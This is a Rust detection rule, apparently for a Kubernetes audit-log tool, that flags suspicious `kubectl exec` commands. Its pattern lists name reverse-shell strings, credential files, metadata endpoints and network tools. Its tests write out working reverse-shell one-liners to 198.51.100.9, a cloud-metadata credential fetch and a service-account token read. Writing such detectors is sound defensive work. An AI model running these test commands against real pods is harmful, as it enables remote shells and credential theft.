//! What a command run in a pod (`kubectl exec`, from the request URI's
//! `command=` parameters) is up to: Elastic's reverse-shell, download,
//! cloud-metadata, credential-file and network-tool rules and Sigma's
//! compiler rule, as substring and program-name checks.

use rule_sdk::{Alerts, Event, Severity};

use crate::rules::SUSPICIOUS_EXEC_COMMAND;

/// Spellings of a shell connecting back to an attacker.
const REVERSE_SHELL: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "zsh/net/tcp",
    "zsh/net/udp",
    "nc -e",
    "ncat -e",
    "netcat -e",
    "mkfifo",
    "bash -i >",
    "sh -i >",
    "0>&1",
    "import socket",
    "import pty",
    "socket.socket",
    "pty.spawn",
    "io::socket::inet",
    "fsockopen",
    "tcpsocket.new",
    "/inet/tcp/",
];

/// Health checks written with bash's /dev/tcp against the pod itself.
const LOCAL_TCP: &[&str] = &["/dev/tcp/localhost/", "/dev/tcp/127.0.0.1/"];

/// Hosts of the pod itself, which a download from is no download.
const LOCAL_HOSTS: &[&str] = &["localhost", "127.0.0.1", "[::1]"];

/// Cloud instance metadata endpoints (instance credentials).
const CLOUD_METADATA: &[&str] = &[
    "169.254.169.254",
    "169.254.170.2",
    "fd00:ec2::254",
    "metadata.google.internal",
    "100.100.100.200",
];

/// Files holding credentials inside a container or on a node.
const CREDENTIAL_FILES: &[&str] = &[
    "/etc/shadow",
    "/var/run/secrets/kubernetes.io/serviceaccount",
    "/run/secrets/kubernetes.io/serviceaccount",
    "/var/run/secrets/eks.amazonaws.com",
    ".kube/config",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/pki",
    "/root/.ssh",
    "id_rsa",
    "/environ",
    ".aws/credentials",
    ".docker/config.json",
];

const DOWNLOADERS: &[&str] = &["curl", "wget"];
const NETWORK_TOOLS: &[&str] = &[
    "nmap", "masscan", "zmap", "tcpdump", "tshark", "nc", "ncat", "netcat", "socat",
];
const COMPILERS: &[&str] = &[
    "gcc", "cc", "g++", "c++", "clang", "make", "nasm", "yasm", "javac", "rustc",
];

/// The kinds of suspicious activity a command shows, most severe first:
/// `reverse-shell`, `cloud-metadata`, `credential-file`, `download`,
/// `network-tool`, `compiler`.
pub fn classify(command: &str) -> Vec<&'static str> {
    let lower = command.to_ascii_lowercase();
    let has = |needles: &[&str]| needles.iter().any(|n| lower.contains(n));
    let programs: Vec<&str> = lower
        .split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '\'' | '"')
        })
        .filter(|w| !w.is_empty())
        .map(|w| w.rsplit('/').next().unwrap_or(w))
        .collect();
    let runs = |names: &[&str]| programs.iter().any(|p| names.contains(p));
    let mut kinds = Vec::new();
    let scrubbed = LOCAL_TCP
        .iter()
        .fold(lower.clone(), |s, local| s.replace(local, "local-tcp:"));
    if REVERSE_SHELL.iter().any(|n| scrubbed.contains(n)) {
        kinds.push("reverse-shell");
    }
    if has(CLOUD_METADATA) {
        kinds.push("cloud-metadata");
    }
    if has(CREDENTIAL_FILES) {
        kinds.push("credential-file");
    }
    let remote_url = lower.match_indices("://").any(|(i, _)| {
        let host = &lower[i + 3..];
        !LOCAL_HOSTS.iter().any(|l| host.starts_with(l))
    });
    if runs(DOWNLOADERS) && remote_url {
        kinds.push("download");
    }
    if runs(NETWORK_TOOLS) {
        kinds.push("network-tool");
    }
    if runs(COMPILERS) {
        kinds.push("compiler");
    }
    kinds
}

pub(crate) fn check(e: &Event, out: &mut Alerts) {
    if !matches!(e.verb.as_ref(), "create" | "get") {
        return;
    }
    let command = e.query_param("command").unwrap_or_default();
    let kinds = classify(&command);
    let Some(first) = kinds.first() else { return };
    let what = match *first {
        "reverse-shell" => "Reverse shell",
        "cloud-metadata" => "Cloud metadata read",
        "credential-file" => "Credential file read",
        "download" => "Download",
        "network-tool" => "Network tool",
        _ => "Compiler",
    };
    // Scanning and compiling are suspicious; the rest is an attack.
    let hands_on = kinds
        .iter()
        .any(|k| !matches!(*k, "network-tool" | "compiler"));
    let container = e.query_param("container").unwrap_or_default();
    let alert = out
        .raise(&SUSPICIOUS_EXEC_COMMAND)
        .title(format!("{what} in pod {}/{}", e.namespace(), e.name()))
        .group(&[e.username(), e.namespace(), e.name(), &command])
        .audit_context()
        .user_groups()
        .field("pod", e.name())
        .field("container", container)
        .field("command", command.as_str())
        .field("activity", kinds.join(","));
    if !hands_on {
        alert.severity(Severity::Medium);
    }
}

#[cfg(test)]
mod tests {
    use super::classify;

    #[test]
    fn attack_commands() {
        let cases: &[(&str, &[&str])] = &[
            (
                "bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
                &["reverse-shell"],
            ),
            (
                "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4444));pty.spawn(\"sh\")",
                &["reverse-shell"],
            ),
            (
                "sh -c curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                &["cloud-metadata", "download"],
            ),
            (
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                &["credential-file"],
            ),
            (
                "/usr/bin/wget https://198.51.100.9/x -O /tmp/x",
                &["download"],
            ),
            ("nmap -sT 10.96.0.0/12", &["network-tool"]),
            ("sh -c gcc -o /tmp/x /tmp/x.c", &["compiler"]),
            ("cat /proc/1/environ", &["credential-file"]),
        ];
        for (command, want) in cases {
            assert_eq!(classify(command), *want, "{command}");
        }
    }

    #[test]
    fn everyday_commands() {
        for command in [
            "sh",
            "/bin/bash",
            "ls -la /app",
            "cat /etc/nginx/nginx.conf",
            "bash -c echo > /dev/tcp/localhost/8080",
            "curl -s localhost:8080/healthz",
            "curl -s http://127.0.0.1:8080/ready",
            "bash -i",
            "psql -U app",
            "makepkg --help",
            "env",
        ] {
            assert!(classify(command).is_empty(), "{command}");
        }
    }
}
